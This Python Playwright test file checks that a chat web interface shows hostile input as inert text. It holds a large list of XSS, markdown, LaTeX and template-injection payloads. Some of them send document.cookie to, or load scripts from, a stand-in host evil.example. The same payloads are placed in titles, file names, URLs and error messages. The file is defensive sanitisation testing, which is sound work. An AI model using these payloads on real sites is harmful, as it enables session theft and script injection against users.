"""Words of strangers in every place where the page shows words: nothing runs, nothing is fetched, nothing is refused by
the policy because nothing is tried, nothing breaks the layout."""

from __future__ import annotations

import re
from collections.abc import Callable
from itertools import cycle

from playwright.sync_api import Page, expect

from tests.page.conftest import PagedSystem, Visitor

Visit = Callable[..., Visitor]

RUN = ("pwned()", "fetch('https://evil.example/'+document.cookie)", "import('https://evil.example/x.js')")
TAGS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<body onload={0}>",
    "<details open ontoggle={0}><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<a href='javascript:{0}'>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<object data='javascript:{0}'></object>",
    "<base href='javascript:{0}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '"><script>{0}</script>',
    "'-{0}-'",
    "</textarea><script>{0}</script>",
    "</title><script>{0}</script>",
    "<!--><script>{0}</script>-->",
    "${{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "`${{{0}}}`",
    "[x](javascript:{0})",
    "[x](JaVaScRiPt&colon;{0})",
    "[x](\tjava&#10;script:{0})",
    "[x](data:text/html,<script>{0}</script>)",
    "[x](vbscript:{0})",
    "[x](//evil.example/{0})",
    "<javascript:{0}>",
    "[x]: javascript:{0}\n\n[x]",
    "![x](https://evil.example/p.png?{0})",
    "![x](data:image/svg+xml,<svg onload={0}>)",
    "![x][y]\n\n[y]: https://evil.example/q.png",
    "| <script>{0}</script> | [x](javascript:{0}) |\n|--|--|\n| <img src=x onerror={0}> | `<b>` |",
    "```<script>{0}</script>\n<script>{0}</script>\n```",
    "```html\n<img src=x onerror={0}>\n```",
    "```__proto__\nx\n```",
    "- [ ] <img src=x onerror={0}>\n- <script>{0}</script>",
    "> <script>{0}</script>\n> > [x](javascript:{0})",
    "# <script>{0}</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "$\\href{{javascript:{0}}}{{x}}$",
    "$\\includegraphics{{https://evil.example/p.png?{0}}}$ $\\style{{background:url(//evil.example)}}{{x}}$",
    "\\[ \\def\\a{{\\a\\a}}\\a \\rule{{9999em}}{{9999em}} \\text{{<img src=x onerror={0}>}} \\]",
    "&#60;img src=x onerror={0}&#62;",
)
ODD = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 isolates \u2069",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo",
    "👩‍👩‍👧‍👦🏳️‍🌈" * 40,
    "W" * 3_000,
    "https://a.example/" + "x" * 3_000,
    "ى" * 400,
    "**" * 500 + "_" * 500,
    "[" * 300 + "]" * 300,
    "> " * 200 + "deep",
    "- " * 120 + "deep",
    "(" * 400,
    "\ufeff\u200b\u00ad\u2028\u2029",
    "a\\\\b\\*c\\_d",
    "&#0;&#xD800;&#x110000;&constructor;",
)
WORDS = [tag.format(run) for tag, run in zip(TAGS, cycle(RUN), strict=False)] + list(ODD)


def check(page: Page) -> None:
    """Nothing of it is anything but text."""
    elements = ("script", "img", "iframe", "object", "embed", "style", "base", "link", "form[action]", "meta")
    assert page.locator(", ".join(f"#page {each}" for each in elements)).count() == 0
    assert page.evaluate("document.querySelectorAll('#page [style]:not(textarea, math *)').length") == 0
    links = page.eval_on_selector_all("#page a[href]", "links => links.map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}, links
    handlers = "all => all.flatMap(one => [...one.attributes]).filter(each => each.name.startsWith('on')).length"
    assert page.eval_on_selector_all("#page *", handlers) == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_hostile_words_are_words_wherever_they_stand(visit: Visit, paged: PagedSystem) -> None:
    everything = "\n\n".join(WORDS)
    argument = WORDS[0] + "W" * 300
    paged.script(
        {"user": "^hostile", "replies": [
            {"thinking": everything, "tool_calls": [{"name": "web_search", "arguments": {"query": argument}}]},
            {"thinking": "x", "content": everything},
        ]},
        chunk_chars=97,
    )  # fmt: skip
    visitor = visit(viewport={"width": 360, "height": 780})
    visitor.follow_requests()
    page = visitor.open()
    page.fill("#question", "hostile " + everything)
    page.keyboard.press("Control+Enter")
    expect(page.locator("article.turn")).to_have_attribute("data-state", "answered")
    page.locator(".thinking summary").click()
    page.locator("[data-call] .call-head").click()
    page.wait_for_selector(".insides pre")
    check(page)
    for word in WORDS:
        first_line = next((line for line in word.split("\n") if "<script>" in line and not line.startswith("|")), None)
        if first_line and not first_line.startswith(("#", ">", "-", "```", "[")):
            spaced = re.compile(r"\s*".join(map(re.escape, first_line)))  # nothing may stick to an address
            expect(page.locator("[data-answer]")).to_contain_text(spaced)
    session = page.evaluate("location.hash.split('/')[2]")
    title = "</title><script>pwned()</script> <img src=x onerror=pwned()> ${pwned()} " + "W" * 100
    paged.request("PATCH", f"/sessions/{session}", json={"title": title})
    page.reload()
    expect(page.locator("h1")).to_have_text(title)
    expect(page.locator("article.turn")).to_have_attribute("data-state", "answered")
    check(page)


def test_hostile_errors_file_names_and_addresses_are_words(visit: Visit, paged: PagedSystem) -> None:
    visitor = visit(viewport={"width": 360, "height": 780})
    visitor.follow_requests()
    visitor.expected = lambda trouble: "404" in trouble  # the conversation that is none
    page = visitor.open("#/c/%3Cimg%20src=x%20onerror=pwned()%3E/%00%27%22%3Cscript%3Epwned()")
    expect(page.locator("[data-state=failed]")).to_be_visible()
    check(page)
    page.evaluate("location.hash = '#/'")
    name = "<img src=x onerror=pwned()>" + "W" * 80 + ".txt"
    page.set_input_files("input[type=file]", {"name": name, "mimeType": "text/plain", "buffer": b"hello"})
    expect(page.locator(".chip[data-state=ready] .name")).to_have_text(name)
    paged.fault(kind="status", status=400, body={"error": "<script>pwned()</script>" + "W" * 2_000}, match="13\\+13")
    page.fill("#question", "What is 13+13?")
    page.keyboard.press("Control+Enter")
    expect(page.locator(".fault")).to_contain_text("<script>pwned()</script>")
    expect(page.locator(".files .file")).to_contain_text(name)
    check(page)
